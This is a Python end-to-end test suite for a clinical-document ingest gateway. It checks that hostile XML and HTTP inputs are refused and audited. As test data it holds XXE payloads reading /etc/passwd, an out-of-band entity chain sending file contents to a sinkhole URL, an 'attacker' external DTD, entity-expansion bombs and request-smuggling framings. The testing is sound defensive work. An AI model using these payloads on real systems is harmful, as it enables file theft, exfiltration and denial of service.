"""End-to-end: the bad-input catalogue, docs/reference/security-research.md
section (b) (the shared reference documents), as tests over real HTTPS.

Every applicable case is sent to a running gateway (raw TLS connections,
exact bytes) and checked against the conventions of section (b):
- the exact status and stable `code` of an application/problem+json answer
  (the research table's `{"error": CODE}` is the README's `code` field);
- nothing stored but the audit record: the registry's document, content,
  patient-id and fact rows are unchanged, and the audit rows the case adds
  are exactly the expected ones (one `document.reject`, outcome 4, or one
  `security.alert`, outcome 8, for a refused document; the research table's
  DICOM event ids 110107 / 110113 are these two);
- a document stored at the start is unchanged (re-fetched, SHA-256
  re-checked) and the next valid request on a fresh connection succeeds.
URLs in hostile documents point at a local sinkhole listener that must never
see a connection (checked with a barrier connection, not a sleep).

Rows covered here: XML / CDA input 1-16 (TestDtd, TestLimits, TestContent),
HTTP framing 22-31 (TestHttpFraming), TLS / identity 34-37 (TestTls),
idempotency 39-40 (TestIdempotency), audit integrity 58 (TestAuditTamper),
log scan 60 (TestZzLogScan).  Where the research table names another code
or outcome than the README, the README is followed:
- row 11: processing instructions are kept with the original and never
  applied (README "Parse"), with an `XML-PI` warning, not 400
  `XML_PI_FORBIDDEN`;
- row 13: a UTF-32 document hiding a DOCTYPE is refused as
  `XML_ENCODING` (libxml2 reads no UTF-32), not `XML_DTD_FORBIDDEN`;
- row 24: a transfer coding other than chunked is 400 `HTTP_BAD_TE`;
  `Transfer-Encoding : chunked` (space before the colon) is 400
  `HTTP_MALFORMED`, as is any header with a space before its colon;
- row 27: too many or too large headers are 431 `HTTP_HEADERS_TOO_LARGE`, a
  100 KB request line 414 `HTTP_REQUEST_LINE_TOO_LONG`;
- row 30: a slowloris client is answered 408 `HTTP_HEADER_TIMEOUT`;
- row 31: the minimum-rate rule itself (408 `HTTP_BODY_TOO_SLOW`) is
  test_promises.py's TestBodyTimeouts; here, a body that stops is discarded;
- row 32: a client that never reads is disconnected after write_timeout_ms
  (test_promises.py, TestConnectionLimits);
- rows 34-36: a refused handshake is logged (`event=tls.handshake_failed`
  with a reason) and counted in cdxgw_tls_handshake_failures_total by
  reason; the README promises no audit record for it;
- row 58: `cdxgw audit verify` exits 1 and names the first bad record.

Not applicable to today's gateway, with the reason:
- 17-21 rendering (CDA to HTML): the gateway renders no HTML yet;
- 33 connection and handshake floods, `RATE_LIMITED`: the per-address and
  per-certificate caps are not built yet (test_catalogue_pending.py);
- 38 outbound TLS, 45-47 delivery, 48 pending deliveries: no delivery yet;
- 41-44 kill -9 at injected points, power loss, disk full, fsync EIO: the
  durability tests (test_durability.py and the fault-injection suite);
- 49, 59 Audit Record Repository: no audit forwarding yet;
- 50-57 privacy and access (exports, pseudonyms, cohorts, consent,
  break-glass): not built yet.
Cases that need fixes not in this tree are in test_catalogue_pending.py."""

import hashlib
import json
import os
import re
import shutil
import sqlite3
import subprocess
import sys
import unittest

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import cdxtest  # noqa: E402
from cdxtest import Conn, Gateway, Institution, problem_check  # noqa: E402

MAX_BODY = 2 << 20
HEADER_TIMEOUT_MS = 1500
PKI = None
GW = None
SINK = None
REF = None  # (id, bytes, sha256) of a document stored before the attacks

ALERT, REJECT = 8, 4

# A patient name and id that only the reference document carries: the log
# scan (row 60) looks for them.
REF_FAMILY = "Qzvokrantel"
REF_PATIENT = "PX-93017-CATALOGUE"


def setUpModule():
    global PKI, GW, SINK, REF
    PKI = cdxtest.shared_pki()
    certs = cdxtest.institution_certs(PKI, ["riverside"])
    GW = Gateway(PKI, name="ingest-bad", institutions=[
        Institution(cdxtest.E2E_OID, "e2e clinic", PKI.good, "submit, query"),
        Institution(cdxtest.DEMO_OIDS["riverside"], "riverside", certs["riverside"],
                    "submit, query"),
    ], settings={"max_body_bytes": MAX_BODY, "worker_threads": 2,
                 "header_timeout_ms": HEADER_TIMEOUT_MS, "body_timeout_ms": 600000,
                 "body_min_rate_bps": 0,
                 # Exact audit sequences are compared here and the documents
                 # share demographics: matching is set out of reach.
                 "match_link_threshold": "1000", "match_review_threshold": "999"}).start()
    SINK = cdxtest.Sinkhole()
    body = cdxtest.minimal_cda(doc_ext="REF-%d" % os.getpid(), patient_ext=REF_PATIENT).replace(
        b"<family>Patient</family>", b"<family>" + REF_FAMILY.encode() + b"</family>", 1)
    with Conn.open(GW) as c:
        r = cdxtest.raw_post(c, body)
    if r is None or r.status != 201:
        raise AssertionError("could not store the reference document: %r\n%s"
                             % (r, GW.log()[-2000:]))
    REF = (r.json()["id"], body, hashlib.sha256(body).hexdigest())


def tearDownModule():
    if SINK is not None:
        SINK.stop()
    if GW is not None:
        GW.stop()


_n = [0]


def valid_doc(prefix="OK", **kw):
    _n[0] += 1
    return cdxtest.minimal_cda(doc_ext="%s-%d-%d" % (prefix, os.getpid(), _n[0]), **kw)


def with_doctype(doctype, title_ref=b""):
    """A valid document with a DOCTYPE after the XML declaration and
    optionally an entity reference in the title."""
    doc = valid_doc("DTD")
    doc = doc.replace(b"?>\n", b"?>\n" + doctype + b"\n", 1)
    if title_ref:
        doc = doc.replace(b"<title>e2e test document", b"<title>e2e test document " + title_ref,
                          1)
    return doc


def with_section_text(xml_text):
    body = (b'<component><structuredBody><component><section>'
            b'<code code="11450-4" codeSystem="2.16.840.1.113883.6.1"/><title>Problems</title>'
            b'<text>' + xml_text + b'</text></section></component></structuredBody></component>')
    return valid_doc("TXT", body=body)


class BadCase(unittest.TestCase):
    def setUp(self):
        if not GW.alive():
            self.fail("gateway is not running (exit %s); stderr:\n%s"
                      % (GW.proc.returncode, GW.log()[-4000:]))
        self.sink_before = len(SINK.barrier())

    def tearDown(self):
        self.assertEqual(SINK.barrier()[self.sink_before:], [],
                         "the gateway connected to the sinkhole (an URL in the document was "
                         "fetched)")

    def counts(self):
        return {t: cdxtest.table_count(GW, t) for t in
                ("documents", "document_content", "document_patient_ids", "facts")}

    def settle_audit(self, seq0):
        """The audit rows written since seq0 by what was sent before this
        call.  A valid document is stored on a fresh connection first: the
        registry writer commits in order, so once its ingest record is
        there, every record of the earlier request is too (no sleeping
        before a "nothing more was written" check).  counts_without_last()
        then gives the counts without that document."""
        self._last = valid_doc("SETTLE")
        with Conn.open(GW, timeout=120.0) as c:
            p = cdxtest.raw_post(c, self._last, timeout=120.0)
        self.assertIsNotNone(p, "no answer to a valid POST afterwards")
        self.assertEqual(p.status, 201, "valid POST afterwards: %r" % p)
        uid = p.json()["id"]
        rows = cdxtest.audit_since(GW, seq0)
        mine = [k for k, r in enumerate(rows) if r[1] == "document.ingest" and r[4] == uid]
        self.assertEqual(len(mine), 1, rows)
        self._last_uid = uid
        return rows[:mine[0]] + rows[mine[0] + 1:]

    def counts_without_last(self):
        """counts() less the one document settle_audit() stored."""
        c = self.counts()
        n = {t: cdxtest.registry_query(GW, q, (self._last_uid,))[0][0] for t, q in (
            ("documents", "SELECT count(*) FROM documents WHERE uid = ?"),
            ("document_content", "SELECT count(*) FROM document_content WHERE document_id ="
                                 " (SELECT id FROM documents WHERE uid = ?)"),
            ("document_patient_ids", "SELECT count(*) FROM document_patient_ids WHERE"
                                     " document_id = (SELECT id FROM documents WHERE uid = ?)"),
            ("facts", "SELECT count(*) FROM facts WHERE document_id ="
                      " (SELECT id FROM documents WHERE uid = ?)"))}
        return {t: c[t] - n[t] for t in c}

    def post(self, body, ctype="application/xml", timeout=120.0):
        with Conn.open(GW, timeout=timeout) as c:
            return cdxtest.raw_post(c, body, content_type=ctype, timeout=timeout)

    def reject(self, body, status, code, outcome, ctype="application/xml",
               issues=None, what=""):
        """Sends body; asserts the problem, the audit row, nothing stored,
        the reference document intact and a fresh valid request served."""
        seq0 = cdxtest.audit_max_seq(GW)
        before = self.counts()
        r = self.post(body, ctype)
        doc = problem_check(self, r, status, code)
        if issues or status == 422 or code == "XML_MALFORMED":
            self.assertIsInstance(doc.get("issues"), list, "%s: no issues array: %r" % (what, doc))
            self.assertTrue(doc["issues"], "%s: empty issues: %r" % (what, doc))
            for i in doc["issues"]:
                for k in ("severity", "rule", "location", "message"):
                    self.assertIn(k, i, "%s: issue without %r: %r" % (what, k, i))
        self.assertNotIn("root:x:0:0", r.body.decode("utf-8", "replace"),
                         "the answer discloses /etc/passwd")
        rows = cdxtest.audit_since(GW, seq0)
        self.assertEqual(len(rows), 1, "%s: expected exactly one audit row, got %r" % (what, rows))
        _, event, oc, actor, _, _ = rows[0]
        if isinstance(outcome, int):
            self.assertEqual(oc, outcome, "%s: audit row %r" % (what, rows[0]))
        else:
            self.assertIn(oc, outcome, "%s: audit row %r" % (what, rows[0]))
        self.assertEqual(event, {0: "document.ingest", 4: "document.reject",
                                 8: "security.alert"}.get(oc), rows[0])
        self.assertEqual(actor, cdxtest.E2E_OID, rows[0])
        self.assertEqual(self.counts(), before, "%s: a rejected document changed the registry"
                         % what)
        self.assert_service_intact(what)
        return doc

    def assert_service_intact(self, what=""):
        with Conn.open(GW) as c:
            g = cdxtest.raw_get(c, "/v1/documents/" + REF[0])
            self.assertIsNotNone(g, "%s: no answer to GET of the reference document" % what)
            self.assertEqual(g.status, 200, "%s: GET reference: %r" % (what, g))
            self.assertEqual(hashlib.sha256(g.body).hexdigest(), REF[2], what)
            self.assertEqual(g.header("etag"), '"%s"' % REF[2])
        with Conn.open(GW) as c:
            p = cdxtest.raw_post(c, valid_doc("AFTER"))
            self.assertIsNotNone(p, "%s: no answer to a valid POST afterwards" % what)
            self.assertEqual(p.status, 201, "%s: valid POST afterwards: %r" % (what, p))


class TestDtd(BadCase):
    """Rows 1-5: any DOCTYPE is refused before anything is loaded."""

    def test_row01_xxe_internal_subset(self):
        doc = with_doctype(b'<!DOCTYPE ClinicalDocument [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
                           b"&x;")
        self.reject(doc, 400, "XML_DTD_FORBIDDEN", ALERT, what="row 1 XXE")

    def test_row01_xxe_general_entities(self):
        for dt in (b'<!DOCTYPE ClinicalDocument [<!ENTITY x "harmless">]>',
                   b'<!DOCTYPE ClinicalDocument>',
                   b'<!DOCTYPE ClinicalDocument [<!ENTITY x SYSTEM "' + SINK.url("/e").encode()
                   + b'">]>'):
            with self.subTest(doctype=dt):
                self.reject(with_doctype(dt, b"&x;" if b"ENTITY" in dt else b""), 400,
                            "XML_DTD_FORBIDDEN", ALERT, what="row 1 %r" % dt)

    def test_row02_external_dtd_no_fetch(self):
        for dt in (b'<!DOCTYPE ClinicalDocument SYSTEM "' + SINK.url("/x.dtd").encode() + b'">',
                   b'<!DOCTYPE ClinicalDocument PUBLIC "-//e2e//x" "' + SINK.url("/p.dtd").encode()
                   + b'">',
                   b'<!DOCTYPE ClinicalDocument SYSTEM "http://attacker/x.dtd">'):
            with self.subTest(doctype=dt):
                self.reject(with_doctype(dt), 400, "XML_DTD_FORBIDDEN", ALERT,
                            what="row 2 external DTD")
        self.assertEqual(SINK.barrier(), [], "the gateway fetched the external DTD")

    def test_row03_parameter_entity_oob(self):
        dt = (b'<!DOCTYPE ClinicalDocument [<!ENTITY % p SYSTEM "' + SINK.url("/p.dtd").encode()
              + b'"> %p;]>')
        self.reject(with_doctype(dt), 400, "XML_DTD_FORBIDDEN", ALERT, what="row 3")
        dt2 = (b'<!DOCTYPE ClinicalDocument [<!ENTITY % file SYSTEM "file:///etc/passwd">'
               b'<!ENTITY % eval "<!ENTITY &#x25; exf SYSTEM \'' + SINK.url("/?%file;").encode()
               + b'\'>"> %eval; %exf;]>')
        self.reject(with_doctype(dt2), 400, "XML_DTD_FORBIDDEN", ALERT, what="row 3 OOB")

    def test_row04_billion_laughs(self):
        ents = [b'<!ENTITY lol0 "lol">']
        for i in range(1, 11):
            ents.append(b'<!ENTITY lol%d "%s">' % (i, b"".join([b"&lol%d;" % (i - 1)] * 10)))
        dt = b"<!DOCTYPE ClinicalDocument [" + b"".join(ents) + b"]>"
        doc = with_doctype(dt, b"&lol10;")
        rss0 = cdxtest.proc_rss_kb(GW.proc.pid)
        self.reject(doc, 400, "XML_DTD_FORBIDDEN", ALERT, what="row 4")
        rss1 = cdxtest.proc_rss_kb(GW.proc.pid)
        if rss0 is not None and rss1 is not None:
            self.assertLess(rss1 - rss0, 10 * 1024, "RSS grew from %d kB to %d kB" % (rss0, rss1))

    def test_row05_quadratic_blowup(self):
        dt = b'<!DOCTYPE ClinicalDocument [<!ENTITY a "' + b"A" * 50000 + b'">]>'
        doc = with_doctype(dt, b"&a;" * 10000)
        rss0 = cdxtest.proc_rss_kb(GW.proc.pid)
        self.reject(doc, 400, "XML_DTD_FORBIDDEN", ALERT, what="row 5")
        rss1 = cdxtest.proc_rss_kb(GW.proc.pid)
        if rss0 is not None and rss1 is not None:
            self.assertLess(rss1 - rss0, 20 * 1024, "RSS grew from %d kB to %d kB" % (rss0, rss1))


class TestLimits(BadCase):
    """Rows 6-8: depth, size and parser limits."""

    def test_row06_300_deep(self):
        doc = with_section_text(b"<content>" * 300 + b"x" + b"</content>" * 300)
        self.reject(doc, 400, "XML_TOO_DEEP", REJECT, what="row 6")

    def test_row06_control_200_deep_is_parsed(self):
        # Below libxml2's limit: well-formed, so not an XML_TOO_DEEP.
        doc = with_section_text(b"<content>" * 200 + b"x" + b"</content>" * 200)
        r = self.post(doc)
        self.assertIsNotNone(r)
        self.assertEqual(r.status, 201, r)

    def test_row07_body_limit_plus_one(self):
        seq0 = cdxtest.audit_max_seq(GW)
        before = self.counts()
        c = Conn.open(GW, timeout=120.0)
        self.addCleanup(c.close)
        c.send(b"POST /v1/documents HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/xml"
               b"\r\nContent-Length: %d\r\n\r\n" % (MAX_BODY + 1))
        # A single text node of body-limit + 1 bytes; only its start is sent.
        # body_timeout_ms is ten minutes here: a gateway waiting for the
        # body would not answer within the read's deadline, so the 413 shows
        # it was decided from the header alone.
        try:
            c.send(b"<ClinicalDocument xmlns='urn:hl7-org:v3'><title>" + b"A" * 4096)
        except OSError:
            pass
        r = c.read_response(timeout=120.0)
        problem_check(self, r, 413, "BODY_TOO_LARGE")
        self.assertTrue(c.wait_closed(60.0), "connection still open after 413")
        # Section (b) conventions: every rejection writes one audit row, this
        # one too (the institution is known from the handshake; recording the
        # refusal needs no body).
        rows = self.settle_audit(seq0)
        self.assertEqual([(e, o, a) for _, e, o, a, _, _ in rows],
                         [("document.reject", REJECT, cdxtest.E2E_OID)], rows)
        self.assertEqual(self.counts_without_last(), before)
        self.assert_service_intact("row 7")

    def test_row07_full_oversized_body(self):
        body = (b"<ClinicalDocument xmlns='urn:hl7-org:v3'><title>"
                + b"A" * (MAX_BODY + 1 - 64))
        body += b"B" * (MAX_BODY + 1 - len(body))
        self.assertEqual(len(body), MAX_BODY + 1)
        c = Conn.open(GW)
        self.addCleanup(c.close)
        c.send(b"POST /v1/documents HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/xml"
               b"\r\nContent-Length: %d\r\n\r\n" % len(body))
        try:
            c.send(body)
        except OSError:
            pass  # the gateway may close while we still send
        r = c.read_response(timeout=120.0)
        problem_check(self, r, 413, "BODY_TOO_LARGE")
        self.assert_service_intact("row 7 full")

    def test_row08_100000_attributes(self):
        attrs = b" ".join(b'a%d="1"' % i for i in range(100000))
        doc = with_section_text(b"<content " + attrs + b">x</content>")
        self.assertLess(len(doc), MAX_BODY)
        self.reject(doc, 400, "XML_LIMIT", ALERT, what="row 8 attributes")

    def test_row08_60000_char_element_name(self):
        doc = with_section_text(b"<" + b"n" * 60000 + b">x</" + b"n" * 60000 + b">")
        self.reject(doc, 400, "XML_LIMIT", ALERT, what="row 8 name")

    def test_row08_1mb_attribute_value(self):
        """Row 8 allows 400 XML_LIMIT or 413; libxml2's own value limit is
        10 MB, so a 1 MB attribute value in an otherwise valid document is
        data, and the document is stored (one ingest record, one row)."""
        doc = with_section_text(b'<content ID="' + b"v" * (1 << 20) + b'">x</content>')
        seq0 = cdxtest.audit_max_seq(GW)
        before = self.counts()
        r = self.post(doc)
        self.assertIsNotNone(r, "no answer")
        self.assertEqual(r.status, 201, r)
        rows = cdxtest.audit_since(GW, seq0)
        self.assertEqual([(e, o) for _, e, o, *_ in rows], [("document.ingest", 0)], rows)
        self.assertEqual(self.counts()["documents"], before["documents"] + 1)
        self.assert_service_intact("row 8 value")


class TestContent(BadCase):
    """Rows 9-16 and the other parser verdicts."""

    def test_row09_xinclude_not_expanded(self):
        doc = with_section_text(
            b'<content xmlns:xi="http://www.w3.org/2001/XInclude">'
            b'<xi:include href="file:///etc/passwd" parse="text"/></content>')
        d = self.reject(doc, 422, "CDA_SCHEMA_INVALID", REJECT, what="row 9")
        self.assertTrue(any(i.get("location") for i in d["issues"]), d)
        doc2 = with_section_text(
            b'<content xmlns:xi="http://www.w3.org/2001/XInclude">'
            b'<xi:include href="' + SINK.url("/inc").encode() + b'"/></content>')
        self.reject(doc2, 422, "CDA_SCHEMA_INVALID", REJECT, what="row 9 http")

    def test_row10_schema_location_ignored(self):
        doc = valid_doc("XSI", root_attrs=(
            b' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
            b' xsi:schemaLocation="urn:hl7-org:v3 ' + SINK.url("/evil.xsd").encode() + b'"'))
        seq0 = cdxtest.audit_max_seq(GW)
        r = self.post(doc)
        self.assertIsNotNone(r)
        self.assertEqual(r.status, 201, r)
        rows = cdxtest.audit_since(GW, seq0)
        self.assertEqual([(e, o) for _, e, o, *_ in rows], [("document.ingest", 0)], rows)
        self.assertEqual(SINK.barrier(), [], "the schemaLocation URL was fetched")

    def test_row11_processing_instructions_kept_never_applied(self):
        pis = (b'<?xml-stylesheet type="text/xsl" href="' + SINK.url("/x.xsl").encode() + b'"?>\n'
               b'<?cdx-e2e some data?>\n')
        doc = valid_doc("PI")
        doc = doc.replace(b"?>\n", b"?>\n" + pis, 1)
        r = self.post(doc)
        self.assertIsNotNone(r)
        self.assertEqual(r.status, 201, r)
        receipt = r.json()
        rules = [w.get("rule") for w in receipt.get("warnings", [])]
        self.assertIn("XML-PI", rules, receipt)
        with Conn.open(GW) as c:
            g = cdxtest.raw_get(c, "/v1/documents/" + receipt["id"])
            self.assertEqual(g.status, 200, g)
            self.assertEqual(g.body, doc, "the original bytes (with the PIs) were not kept")
            n = cdxtest.raw_get(c, "/v1/documents/" + receipt["id"] + "?form=normalized")
            self.assertEqual(n.status, 200, n)
            self.assertIn(b"ClinicalDocument", n.body, "the stylesheet was applied?")
        self.assertEqual(SINK.barrier(), [], "the stylesheet URL was fetched")

    def test_row12_malformed(self):
        cases = {
            "unclosed tag": valid_doc("M1").replace(b"<title>e2e test document</title>",
                                                    b"<title>e2e test document"),
            "NUL byte": valid_doc("M2").replace(b"e2e test document", b"e2e\x00test"),
            "invalid UTF-8": valid_doc("M3").replace(b"e2e test document", b"e2e \xc3\x28 test"),
            "lone surrogate": valid_doc("M4").replace(b"e2e test document", b"e2e &#xD800; test"),
            "BOM + encoding UTF-16": b"\xef\xbb\xbf" + valid_doc("M5").replace(
                b'encoding="UTF-8"', b'encoding="UTF-16"'),
            "garbage after root": valid_doc("M6") + b"<second/>",
        }
        for name, doc in cases.items():
            with self.subTest(case=name):
                d = self.reject(doc, 400, "XML_MALFORMED", REJECT, what="row 12 " + name)
                locs = [i.get("location") or "" for i in d["issues"]]
                self.assertTrue(any(re.fullmatch(r"\d+:\d+", loc) for loc in locs),
                                "row 12 %s: no line:column location in %r" % (name, d["issues"]))

    def test_row12_location_line(self):
        doc = b'<?xml version="1.0"?>\n<ClinicalDocument xmlns="urn:hl7-org:v3">\n<a>\n</b>\n'
        d = self.reject(doc, 400, "XML_MALFORMED", REJECT, what="row 12 line")
        locs = [i.get("location") or "" for i in d["issues"]]
        self.assertTrue(any(loc.startswith("4:") for loc in locs),
                        "the mismatched end tag is on line 4: %r" % d["issues"])

    def test_row13_utf16_hiding_doctype(self):
        dt = b'<!DOCTYPE ClinicalDocument [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        plain = with_doctype(dt, b"&x;").replace(b'encoding="UTF-8"', b'encoding="UTF-16"')
        text = plain.decode("utf-8")
        self.assertNotIn(b"DOCTYPE", text.encode("utf-16-le"))
        for name, data in (("UTF-16LE BOM", b"\xff\xfe" + text.encode("utf-16-le")),
                           ("UTF-16BE BOM", b"\xfe\xff" + text.encode("utf-16-be")),
                           ("UTF-16LE no BOM", text.encode("utf-16-le"))):
            with self.subTest(encoding=name):
                self.reject(data, 400, "XML_DTD_FORBIDDEN", ALERT, what="row 13 " + name)

    def test_row13_utf32_hiding_doctype(self):
        dt = b'<!DOCTYPE ClinicalDocument [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        text = with_doctype(dt, b"&x;").replace(b'encoding="UTF-8"',
                                                 b'encoding="UTF-32"').decode("utf-8")
        for name, data in (("UTF-32LE BOM", b"\xff\xfe\x00\x00" + text.encode("utf-32-le")),
                           ("UTF-32BE BOM", b"\x00\x00\xfe\xff" + text.encode("utf-32-be"))):
            with self.subTest(encoding=name):
                self.reject(data, 400, "XML_ENCODING", REJECT,
                            what="row 13 " + name)

    def test_row13_control_utf16_document_accepted(self):
        text = valid_doc("U16").replace(b'encoding="UTF-8"', b'encoding="UTF-16"').decode()
        r = self.post(b"\xff\xfe" + text.encode("utf-16-le"))
        self.assertIsNotNone(r)
        self.assertEqual(r.status, 201, r)

    def test_row13_unsupported_encodings(self):
        for enc in (b"EBCDIC", b"x-no-such-encoding", b"UTF-7-e2e"):
            with self.subTest(encoding=enc):
                doc = valid_doc("ENC").replace(b'encoding="UTF-8"', b'encoding="' + enc + b'"')
                self.reject(doc, 400, "XML_ENCODING", REJECT, what="row 13 %s" % enc)

    def test_row14_wrong_root_or_namespace(self):
        base = valid_doc("NS")
        cases = {
            "no namespace": base.replace(b' xmlns="urn:hl7-org:v3"', b"", 1),
            "other namespace": base.replace(b'xmlns="urn:hl7-org:v3"', b'xmlns="urn:hl7-org:v2"',
                                            1),
            "other root": base.replace(b"<ClinicalDocument ", b"<Document ", 1).replace(
                b"</ClinicalDocument>", b"</Document>"),
            "prefixed wrong ns": b'<?xml version="1.0"?>\n<x:ClinicalDocument xmlns:x="urn:e2e">'
                                 b'<x:id root="2.25.1"/></x:ClinicalDocument>',
            "html": b"<html><body>hi</body></html>",
        }
        for name, doc in cases.items():
            with self.subTest(case=name):
                self.reject(doc, 422, "CDA_SCHEMA_INVALID", REJECT, what="row 14 " + name)

    def test_row15_required_fields(self):
        pid = b'<id root="2.25.1001.1" extension="P-0001"/>'
        cases = {
            "id without root": valid_doc("R1", id_tag=b'<id extension="X-1"/>'),
            "id root not an OID": valid_doc("R2", id_tag=b'<id root="not-an-oid" extension="X"/>'),
            "id root 1.2.abc": valid_doc("R3", id_tag=b'<id root="1.2.abc" extension="X"/>'),
            "no id": valid_doc("R4", id_tag=b""),
            "no patient id": valid_doc("R5").replace(pid, b""),
            "patient id nullFlavor": valid_doc("R6").replace(pid, b'<id nullFlavor="UNK"/>'),
            "bad effectiveTime": valid_doc("R7", effective_time=b"2024-01-05"),
            "no effectiveTime": valid_doc("R8").replace(
                b'<effectiveTime value="20240105093000+0900"/>', b""),
        }
        self.assertNotIn(pid, cases["no patient id"])
        self.assertIn(b"<recordTarget>", cases["no patient id"])
        for name, doc in cases.items():
            with self.subTest(case=name):
                d = self.reject(doc, 422, "CDA_REQUIRED_FIELD", REJECT, what="row 15 " + name)
                self.assertTrue(any(i.get("location") for i in d["issues"]),
                                "row 15 %s: no issue names a location: %r" % (name, d))

    def test_row16_custodian_not_the_client_institution(self):
        doc = valid_doc("IDM", custodian_oid=cdxtest.DEMO_OIDS["riverside"],
                        doc_root=cdxtest.DEMO_OIDS["riverside"] + ".2",
                        patient_root="2.25.1001.1")
        d = self.reject(doc, 403, "IDENTITY_MISMATCH", ALERT, what="row 16")
        self.assertIsInstance(d.get("issues"), list, d)
        # Control: the same bytes from riverside's own certificate are stored.
        r = cdxtest.post_document(GW, doc, PKI._inst_certs["riverside"])
        self.assertEqual(r.status, 201, r)

    def test_xml_empty(self):
        for body in (b"", b"   \n  "):
            with self.subTest(body=body):
                self.reject(body, 400, "XML_EMPTY", REJECT, what="empty %r" % body)

    def test_not_xml_at_all(self):
        # A JSON or HL7 v2 body is not XML, and the answer says so (not "empty").
        for body in (b'{"resourceType": "Bundle"}', b"MSH|^~\\&|EMR|HANBIT"):
            with self.subTest(body=body):
                d = self.reject(body, 400, "XML_MALFORMED", REJECT, what="not XML %r" % body)
                self.assertIn("not XML", json.dumps(d), d)


# ---------------------------------------------------------------------------
# HTTP framing (rows 22-31)
# ---------------------------------------------------------------------------

DOC_HEAD = "POST /v1/documents HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/xml\r\n"
PIPELINED = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n"

# (row, case, raw request, status, code, audited): every request names
# POST /v1/documents and is followed on the same connection by a pipelined
# GET /healthz, which must never be answered (row 28): the connection closes
# after the error.  `audited`: whether the refusal leaves a document.reject
# record.  Every refusal of a request whose request line was read whole is
# attributed to its route and audited, also when the head fails after it
# (header syntax, Content-Length, CL+TE, header limits); a request whose
# request line itself is broken (a bare LF ending it, 100 KB long) names no
# route, and is logged and counted but not audited.
FRAMING = [
    (22, "CL then TE", DOC_HEAD + "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n"
     "0\r\n\r\n", 400, "HTTP_CL_TE_CONFLICT", True),
    (22, "TE then CL", DOC_HEAD + "Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n"
     "0\r\n\r\n", 400, "HTTP_CL_TE_CONFLICT", True),
    (23, "two Content-Length", DOC_HEAD + "Content-Length: 5\r\nContent-Length: 6\r\n\r\n"
     "hello!", 400, "HTTP_BAD_CONTENT_LENGTH", True),
    (23, "Content-Length list", DOC_HEAD + "Content-Length: 5, 6\r\n\r\nhello!", 400,
     "HTTP_BAD_CONTENT_LENGTH", True),
    (23, "Content-Length +12", DOC_HEAD + "Content-Length: +12\r\n\r\n0123456789ab", 400,
     "HTTP_BAD_CONTENT_LENGTH", True),
    (23, "Content-Length 1_000", DOC_HEAD + "Content-Length: 1_000\r\n\r\n", 400,
     "HTTP_BAD_CONTENT_LENGTH", True),
    (23, "Content-Length 1 2", DOC_HEAD + "Content-Length: 1 2\r\n\r\n", 400,
     "HTTP_BAD_CONTENT_LENGTH", True),
    (23, "Content-Length -5", DOC_HEAD + "Content-Length: -5\r\n\r\n", 400,
     "HTTP_BAD_CONTENT_LENGTH", True),
    (24, "TE gzip, chunked", DOC_HEAD + "Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n",
     400, "HTTP_BAD_TE", True),
    (24, "TE chunked, gzip", DOC_HEAD + "Transfer-Encoding: chunked, gzip\r\n\r\n0\r\n\r\n",
     400, "HTTP_BAD_TE", True),
    (24, "TE xchunked", DOC_HEAD + "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n", 400,
     "HTTP_BAD_TE", True),
    (24, "TE gzip", DOC_HEAD + "Transfer-Encoding: gzip\r\n\r\n", 400, "HTTP_BAD_TE", True),
    (24, "space before colon", DOC_HEAD + "Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n", 400,
     "HTTP_MALFORMED", True),
    (25, "obs-fold", DOC_HEAD + "X-A: one\r\n two\r\nContent-Length: 0\r\n\r\n", 400,
     "HTTP_MALFORMED", True),
    (25, "bare LF", DOC_HEAD.replace("\r\n", "\n") + "Content-Length: 0\n\n", 400,
     "HTTP_MALFORMED", False),
    (26, "chunk size overflow", DOC_HEAD + "Transfer-Encoding: chunked\r\n\r\n"
     "FFFFFFFFFFFFFFFFF\r\nhello\r\n0\r\n\r\n", 400, "HTTP_BAD_CHUNK", True),
    (26, "negative chunk size", DOC_HEAD + "Transfer-Encoding: chunked\r\n\r\n"
     "-5\r\nhello\r\n0\r\n\r\n", 400, "HTTP_BAD_CHUNK", True),
    (26, "chunk size not hex", DOC_HEAD + "Transfer-Encoding: chunked\r\n\r\n"
     "zz\r\nhello\r\n0\r\n\r\n", 400, "HTTP_BAD_CHUNK", True),
    (26, "100 KB chunk extension", DOC_HEAD + "Transfer-Encoding: chunked\r\n\r\n"
     "5;ext=" + "e" * 100000 + "\r\nhello\r\n0\r\n\r\n", 400, "HTTP_BAD_CHUNK", True),
    (27, "100 KB request line", "POST /v1/documents?" + "q" * 100000 + " HTTP/1.1\r\n"
     "Host: localhost\r\nContent-Length: 0\r\n\r\n", 414, "HTTP_REQUEST_LINE_TOO_LONG", False),
    (27, "10 000 headers", DOC_HEAD + "".join("X-H-%d: v\r\n" % i for i in range(10000))
     + "Content-Length: 0\r\n\r\n", 431, "HTTP_HEADERS_TOO_LARGE", True),
    (27, "one 1 MB header", DOC_HEAD + "X-Big: " + "a" * (1 << 20) + "\r\n"
     "Content-Length: 0\r\n\r\n", 431, "HTTP_HEADERS_TOO_LARGE", True),
]


class TestHttpFraming(BadCase):
    """Rows 22-31: request smuggling, broken framing and oversized heads."""

    def framing_case(self, row, name, raw, status, code, audited):
        seq0 = cdxtest.audit_max_seq(GW)
        before = self.counts()
        c = Conn.open(GW, timeout=120.0)
        self.addCleanup(c.close)
        data = raw.encode("latin-1") + PIPELINED
        try:
            c.send(data)
        except OSError:
            pass  # the gateway may answer and close before it all went out
        r = c.read_response(timeout=120.0)
        problem_check(self, r, status, code)
        self.assertTrue(c.wait_closed(60.0), "row %d %s: connection open after the error"
                        % (row, name))
        self.assertNotIn(b"HTTP/1.", c.buf, "row %d %s: the pipelined request was answered"
                         % (row, name))
        rows = self.settle_audit(seq0)
        want = [("document.reject", REJECT, cdxtest.E2E_OID)] if audited else []
        self.assertEqual([(e, o, a) for _, e, o, a, _, _ in rows], want,
                         "row %d %s: audit records" % (row, name))
